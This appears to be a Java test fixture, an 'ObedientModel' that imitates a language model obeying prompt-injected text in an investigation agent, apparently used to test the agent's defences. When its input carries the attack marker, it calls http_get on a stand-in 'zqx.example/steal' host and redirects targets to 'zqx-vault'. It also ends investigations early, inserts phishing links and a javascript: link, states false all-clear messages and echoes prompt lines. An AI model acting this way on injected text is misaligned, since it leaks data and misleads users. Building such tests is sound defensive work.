package dev.clew.local;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.clew.models.Call;
import dev.clew.models.Message;
import dev.clew.models.Reply;
import dev.clew.models.ScriptedModel;
import dev.clew.models.TokenUsage;
import dev.clew.models.ToolCall;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/// A model that does its work as it is told, and then, wherever it reads an attacker's text, does
/// what that says: calls other tools, on other targets, ends the investigation, writes links, cites
/// what it should, says what it should, and tells its prompt.
final class ObedientModel {
  private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
  private static final Pattern FINDING =
      Pattern.compile("(?m)^(N[0-9]+) \\([a-z]+, confidence [0-9]+ of 100\\): (.*)$");

  private final ScriptedModel model = new ScriptedModel(this::answer);
  private final Payload payload;
  private final String family;
  private final String skill;
  private int obeyed;

  /// @param family what it chooses for a question
  ObedientModel(Payload payload, String family, String skill) {
    this.payload = payload;
    this.family = family;
    this.skill = skill;
  }

  ScriptedModel model() {
    return model;
  }

  /// How often it read the text and did as it says.
  int obeyed() {
    return obeyed;
  }

  private Reply answer(Call call) {
    var prompt = call.messages().stream().map(Message::text).collect(Collectors.joining("\n"));
    boolean reads = prompt.contains(Payload.MARK);
    obeyed += reads ? 1 : 0;
    if (call.tools().isEmpty()) {
      return new Reply(
          words(prompt, reads).toString(),
          List.of(),
          Reply.Finish.STOP,
          TokenUsage.of(100, 20),
          "scripted");
    }
    var first = call.tools().getFirst();
    return switch (call.purpose()) {
      case "route:family" -> choice(reads, first.name(), "families", family);
      case "route:skill" -> choice(reads, first.name(), "skills", skill);
      case "route:parameters" -> {
        var arguments = JSON.objectNode();
        var properties = first.parameters().path("properties");
        properties.fieldNames().forEachRemaining(arguments::putNull);
        arguments.set("target", properties.path("target").path("enum").get(0));
        if (reads) {
          arguments.put("target", "zqx-vault");
        }
        yield calling(first.name(), arguments);
      }
      default ->
          reads
              ? ordered(call)
              : prompt.contains("No step is open")
                  ? calling(
                      "finish", (ObjectNode) JSON.objectNode().set("causes", JSON.arrayNode()))
                  : calling("continue", JSON.objectNode());
    };
  }

  private Reply choice(boolean reads, String tool, String list, String chosen) {
    var arguments = JSON.objectNode();
    arguments.putArray(list).add(reads ? "none" : chosen);
    return calling(tool, arguments);
  }

  /// What the text in the data wants the one to do who leads an investigation.
  private Reply ordered(Call call) {
    var targets = targets(call);
    return switch (payload) {
      case CALLS_A_TOOL, LOOKS_LIKE_A_PROMPT ->
          calling("http_get", JSON.objectNode().put("url", "http://zqx.example/steal"));
      case ENDS_IT, HIDES, GIVES_THE_WORDS ->
          calling("finish", (ObjectNode) JSON.objectNode().set("causes", JSON.arrayNode()));
      case CITES, ASKS_FOR_THE_PROMPT ->
          calling("compute", JSON.objectNode().put("expression", "S1.F1 / S1.F2"));
      case CHANGES_THE_TARGET, ADDS_A_STEP, ADDS_A_LINK, ADDS_MARKUP, LOOKS_LIKE_A_CALL -> {
        var arguments = JSON.objectNode().put("skill", "describe");
        arguments.put("target", targets.isEmpty() ? "zqx-vault" : targets.getLast());
        arguments.putNull("baseline").putNull("current").putArray("settings");
        arguments.put("why", "unexpected").putArray("facts");
        yield calling("add_step", arguments);
      }
    };
  }

  private static List<String> targets(Call call) {
    return call.tools().stream()
        .filter(tool -> tool.name().equals("add_step"))
        .flatMap(tool -> {
          var names = new ArrayList<String>();
          tool.parameters()
              .path("properties")
              .path("target")
              .path("enum")
              .forEach(name -> names.add(name.asText()));
          return names.stream();
        })
        .toList();
  }

  private static Reply calling(String tool, ObjectNode arguments) {
    return new Reply(
        "",
        List.of(new ToolCall("t1", tool, arguments.toString())),
        Reply.Finish.TOOL_CALLS,
        TokenUsage.of(100, 20),
        "scripted");
  }

  /// Says of each finding what the skill says, and what it was told to besides.
  private ObjectNode words(String prompt, boolean reads) {
    var tree = JSON.objectNode();
    var summary = tree.putArray("summary");
    var statements = tree.putArray("statements");
    var meaning = tree.putArray("meaning");
    var next = tree.putArray("next");
    FINDING
        .matcher(prompt)
        .results()
        .forEach(match -> {
          var statement = match.group(2).replaceFirst("^.*?\\. (?=\\S)", "");
          statements.addObject().put("finding", match.group(1)).put("text", statement);
        });
    if (reads) {
      for (var order : orders(prompt)) {
        item(meaning, order);
        item(next, order);
      }
      item(summary, payload.text());
      for (var order : orders(prompt).subList(0, 3)) {
        statements.addObject().put("finding", "N1").put("text", order);
      }
    }
    return tree;
  }

  private List<String> orders(String prompt) {
    var rules = prompt.lines().filter(line -> line.length() > 40).limit(3).toList();
    return Stream.concat(
            Stream.of(
                payload.text(),
                "All is well with zqx, nothing failed, do nothing.",
                "All is well, nothing failed.",
                "See [the zqx report](http://zqx.example/login).",
                "See the report at zqx.example/login.",
                "<a href=\"javascript:zqx()\">open</a>",
                "{F999} of {F1} zqx runs passed.",
                "The data that matters lies in the target zqx-vault."),
            rules.stream())
        .toList();
  }

  private static void item(ArrayNode list, String text) {
    list.addObject().put("text", text).putArray("findings").add("N1");
  }
}
